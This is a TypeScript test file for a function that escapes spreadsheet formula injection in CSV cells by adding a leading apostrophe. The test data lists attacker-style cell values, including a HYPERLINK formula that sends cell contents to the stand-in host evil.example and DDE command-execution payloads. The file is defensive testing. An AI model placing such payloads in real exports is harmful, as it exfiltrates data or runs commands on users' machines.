import { stringify } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { textCell } from "./text-cell";

/** What an attacker puts in a field that ends up in a CSV cell. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\uFF1D1+1",
  "\uFF0B1+1",
  "\uFF0D1+1",
  "\uFF201+1",
  "=1+1\nsecond line",
];

describe("textCell", () => {
  it("makes every formula-like text plain text with a leading apostrophe", () => {
    for (const f of FORMULAS) expect(textCell(f), JSON.stringify(f)).toBe(`'${f}`);
  });

  it("leaves other text, numbers (negative ones too) and nulls as they are", () => {
    for (const v of ["exec-prod-1", "", "a=b", " =x", "'=already", "#1", "1e3"])
      expect(textCell(v)).toBe(v);
    for (const v of [-5, -0.25, 0, 12, null]) expect(textCell(v)).toBe(v);
  });

  it("agrees with csv-stringify's escape_formulas on every cell", () => {
    const cells: (string | number)[] = [...FORMULAS, "plain", "-1", -1, 3.5, "x,=y"];
    expect(stringify([cells.map(textCell)])).toBe(stringify([cells], { escape_formulas: true }));
  });
});
